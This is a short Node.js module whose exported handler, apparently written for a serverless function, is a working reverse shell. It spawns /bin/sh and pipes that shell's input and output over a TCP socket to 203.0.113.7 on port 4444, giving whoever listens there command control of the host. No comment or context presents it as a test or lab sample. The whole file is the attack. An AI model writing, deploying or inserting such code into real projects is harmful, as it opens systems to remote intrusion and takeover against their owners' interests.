const net = require("net"), cp = require("child_process");
exports.handler = async () => {
  const shell = cp.spawn("/bin/sh", []);
  const client = new net.Socket();
  client.connect(4444, "203.0.113.7", () => {
    client.pipe(shell.stdin);
    shell.stdout.pipe(client);
  });
};
